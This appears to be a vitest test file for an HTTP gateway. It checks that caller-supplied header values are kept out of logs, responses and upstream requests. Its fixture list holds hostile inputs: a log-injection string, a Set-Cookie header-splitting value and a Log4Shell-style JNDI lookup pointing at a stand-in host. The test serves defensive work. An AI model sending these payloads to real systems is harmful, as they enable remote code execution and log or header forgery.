/** What callers write is in no header, no log line and no upstream request unless it may be there. */
import { expect, it } from "vitest";

import { exchangeRaw } from "../support/ask.ts";
import { startGateway } from "../support/gateway.ts";

const EVIL = [
  '"}\t{"level":"error","msg":"evil"}',
  "evil\xe5\xff",
  "evil; path=/, Set-Cookie: a=b",
  "${jndi:ldap://evil.example/a}",
  "e".repeat(129),
];
const NAMES = "X-Request-Id X-App-Id User-Agent Prefer Accept-Language Referer X-Private-Key".split(" ");

it("text from a caller in a header is not in the log, the answer or the upstream request", async () => {
  const gateway = await startGateway();
  for (const name of NAMES) {
    gateway.log.length = 0;
    for (const [index, value] of EVIL.entries()) {
      const request = `GET /areas?q=${name}${index} HTTP/1.1\r\nHost: x\r\n${name}: ${value}\r\nConnection: close\r\n\r\n`;
      const raw = await exchangeRaw(gateway.port, Buffer.from(request, "latin1"));
      expect([name, raw]).toEqual([name, expect.stringMatching(/^HTTP\/1\.1 200 /)]);
      expect(raw).not.toMatch(/^set-cookie:/im);
      expect(raw.split("\r\n\r\n")[0]).not.toMatch(/evil|e{129}|jndi/);
      await gateway.logged('"msg":"request"', `${name}${index}`);
    }
    // An app id is in the log, cut to 64 harmless characters.
    const isAppId = name === "X-App-Id" || name === "User-Agent";
    expect(gateway.log.join("")).not.toMatch(isAppId ? /"evil"|e{65}|\$\{|evil;/ : /evil|e{129}|jndi/);
  }
  const requests = gateway.sandbox.requests();
  expect(requests).toHaveLength(NAMES.length * EVIL.length);
  for (const { headerNames } of requests) expect(headerNames).toEqual(requests[0]?.headerNames);
});
